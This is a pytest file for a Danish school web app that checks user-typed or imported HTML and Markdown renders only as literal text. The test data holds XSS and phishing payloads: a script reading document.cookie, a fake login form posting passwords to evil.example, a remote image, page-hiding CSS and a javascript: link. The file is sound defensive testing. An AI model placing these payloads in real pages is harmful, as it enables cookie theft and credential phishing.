"""User text is text: hostile HTML and Markdown typed into any field (or brought in by an import)
is shown as typed on every screen, never as a live element."""

from __future__ import annotations

from datetime import date
from html.parser import HTMLParser

import markdown
import pytest

from components import plain
from data import store
from queries import talks
from queries.runner import Scope
from tests.test_app_pages import login

BAKKE, YEAR = "900001", "2025/26"
LEDER = Scope("ledelse", frozenset([BAKKE]))

PAYLOADS = {
    "iframe": '<iframe srcdoc="<script>parent.document.title=document.cookie</script>"></iframe>',
    "img": "<img src=http://evil.example/x>",
    "style": "<style>body{display:none}</style>",
    "form": (
        '<form action="http://evil.example/login"><p>Log ind igen</p><input name="password" '
        'type="password"><button>Log ind</button></form>'
    ),
    "md_image": "![x](http://evil.example/i.png)",
    "md_link": "[klik](javascript:alert(1))",
}
# Blank lines end an HTML block in Markdown, so what follows is read as Markdown again.
HOSTILE = "\n\n".join(PAYLOADS.values())


class _LiveElements(HTMLParser):
    """Elements in rendered HTML that a payload could have made live."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        if tag in ("iframe", "img", "form", "input", "script", "object", "embed", "link", "frame"):
            self.found.append(tag)
        if tag == "a" and any(bad in (values.get("href") or "") for bad in ("javascript:", "evil.example")):
            self.found.append("a href=" + values["href"])
        self._in_style = tag == "style"

    def handle_endtag(self, tag):
        self._in_style = False

    def handle_data(self, data):
        if self._in_style and "body{display:none}" in data.replace(" ", ""):
            self.found.append("style body{display:none}")


def live_elements(source: str, allow_html: bool) -> list[str]:
    """Render a Markdown body as Streamlit would (raw HTML only with unsafe_allow_html) and list
    the live elements in it."""
    if not allow_html:
        source = source.replace("<", "&lt;")
    parser = _LiveElements()
    parser.feed(markdown.markdown(source))
    return parser.found


def rendered_texts(at):
    """(where, Markdown body, allow_html) for every element and widget label on the page."""

    def walk(node, path):
        proto = getattr(node, "proto", None)
        kind = getattr(node, "type", "?")
        body = getattr(proto, "body", None) if kind not in ("text", "code") else None
        if isinstance(body, str) and body:
            yield f"{path}/{kind}", body, bool(getattr(proto, "allow_html", False))
        for field in ("label", "help", "placeholder"):
            value = getattr(proto, field, None) if proto is not None else None
            if isinstance(value, str) and value:
                yield f"{path}/{kind}.{field}", value, False
        if kind == "radio":
            for option in node.options:
                yield f"{path}/radio.option", str(option), False
        for i, child in getattr(node, "children", {}).items():
            yield from walk(child, f"{path}/{i}")

    yield from walk(at._tree, "")


def assert_no_live_user_text(at) -> int:
    """Checks every text on the page; returns how many held a payload (so a test that finds none
    of them cannot pass silently)."""
    assert not at.exception, [e.value for e in at.exception]
    shown, live = 0, []
    for where, body, allow_html in rendered_texts(at):
        decoded = body.replace("&#", "")
        if "evil" not in body and "evil" not in decoded and "display" not in body and "javascript" not in decoded:
            continue
        shown += 1
        live += [(where, element) for element in live_elements(body, allow_html)]
    assert not live, live
    return shown


def store_hostile_text(runner) -> str:
    """Bakkeskolen's talk this year, its project, a LEAPS course and the school's name, each field
    holding every payload, as a leader could type them or an import could bring them in.
    Returns the talk's id."""
    talk_id = talks.create_talk(runner, LEDER, "leder", BAKKE, YEAR, date(2026, 3, 10), HOSTILE, "standard")
    runner.write(
        "insert_participant",
        LEDER,
        "leder",
        [{"school": BAKKE, "talk_id": talk_id, "name": HOSTILE, "role": "skolebestyrelse"}],
    )
    item = runner.run("talk_agenda", LEDER, school=BAKKE, talk_id=talk_id).row(0, named=True)
    runner.write(
        "update_agenda_item",
        LEDER,
        "leder",
        [
            {
                "school": BAKKE,
                "item_id": item["item_id"],
                "starts_at": "12:00",
                "ends_at": "12:10",
                "title": HOSTILE,
                "kind": "velkomst",
                "screen": "overblik",
                "questions": HOSTILE,
            }
        ],
    )
    runner.write(
        "save_note",
        LEDER,
        "leder",
        [{"school": BAKKE, "item_id": item["item_id"], "body": HOSTILE, "base_version": 0, "username": "leder"}],
    )
    runner.write(
        "upsert_agreement",
        LEDER,
        "leder",
        [
            {
                "school": BAKKE,
                "talk_id": talk_id,
                "agreement_id": f"{talk_id}-X1",
                "text": HOSTILE,
                "owner": HOSTILE,
                "deadline": date(2026, 6, 1),
                "status": "ikke startet",
                "carried_from": None,
                "username": "leder",
            }
        ],
    )

    def imported(cur):  # what an import or another system could have put in
        cur.execute("UPDATE school SET name = ? WHERE institution_no = ?", ["Bakkeskolen " + HOSTILE, BAKKE])
        store.bump_data_version(cur)

    runner.transaction(imported)
    with runner.ops.transaction() as cur:  # the projects live in the operational store
        cur.execute(
            "UPDATE school_project SET title = ?, purpose = ? WHERE institution_no = ?", [HOSTILE, HOSTILE, BAKKE]
        )
        cur.execute(
            "UPDATE project_criterion SET text = ?, evidence = ? WHERE project_id IN "
            "(SELECT project_id FROM school_project WHERE institution_no = ?)",
            [HOSTILE, HOSTILE, BAKKE],
        )
        cur.execute(
            "UPDATE leaps_course SET title = ?, company_partner = ? WHERE institution_no = ?", [HOSTILE, HOSTILE, BAKKE]
        )
    return talk_id


@pytest.fixture
def hostile_store(store_copy):
    from queries.runner import runner_for

    return store_hostile_text(runner_for(store_copy))


def test_every_payload_renders_as_live_markup_in_the_oracle():
    """The checker itself: each payload, put raw into an HTML-enabled element, is found live."""
    for name, payload in PAYLOADS.items():
        assert live_elements(payload, allow_html=True), name
    assert live_elements(PAYLOADS["md_image"], allow_html=False)
    assert live_elements(PAYLOADS["md_link"], allow_html=False)


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_each_payload_is_literal_text_after_escaping(name):
    payload = PAYLOADS[name]
    for allow_html in (True, False):
        assert not live_elements(plain.md(payload), allow_html)
        assert not live_elements(plain.md_lines(HOSTILE), allow_html)
    assert not live_elements(f'<div class="x">{plain.html(HOSTILE)}</div>', allow_html=True)
    assert not live_elements(f'<div aria-label="{plain.attr(HOSTILE)}">x</div>', allow_html=True)


def test_escaped_text_reads_as_typed():
    import html as stdlib_html

    typed = "Læsning & trivsel: 1. mål <5 % — (se nr. 2)!\nNæste linje"
    assert stdlib_html.unescape(plain.md(typed)) == typed.replace("\n", " ")
    assert stdlib_html.unescape(plain.html(typed)) == typed.replace("\n", "<br>")
    assert plain.md("Bakkeskolen") == "Bakkeskolen"


def test_the_presentation_shows_hostile_agenda_title_questions_and_note_as_text(hostile_store):
    at = login("leder", "demo-leder")
    at.query_params.update({"skole": BAKKE, "skoleaar": YEAR, "punkt": "1"})  # the talk of hostile_store
    at.switch_page("views/praesentation.py").run()
    assert assert_no_live_user_text(at) >= 2  # the title and the questions
    assert "evil.example" in at.title[0].value.replace("&#46;", ".")
    note = next(t for t in at.text_area if t.label.startswith("Noter til punktet"))
    assert note.value == HOSTILE  # the notes field holds the text as typed


def test_the_talk_screen_shows_hostile_place_participants_and_agreements_as_text(hostile_store):
    at = login("leder", "demo-leder")
    at.switch_page("views/samtale.py").run()
    assert assert_no_live_user_text(at) >= 2  # the school name in the title and the place


@pytest.mark.parametrize(
    "page", ["views/overblik.py", "views/succeskriterier.py", "views/leaps.py", "views/deltagelse.py"]
)
def test_school_screens_show_a_hostile_school_name_and_project_as_text(hostile_store, page):
    at = login("leder", "demo-leder")
    at.switch_page(page).run()
    assert assert_no_live_user_text(at) >= 1


@pytest.mark.parametrize("page", ["views/kommune.py", "views/saeson.py"])
def test_municipality_screens_show_hostile_school_names_and_agreements_as_text(hostile_store, page):
    at = login("kommune", "demo-kommune")
    at.switch_page(page).run()
    assert_no_live_user_text(at)
    texts = [body for _, body, _ in rendered_texts(at)]
    assert texts and not at.exception
    if page == "views/kommune.py":
        assert any("evil" in t for t in texts)  # the school name appears somewhere in text
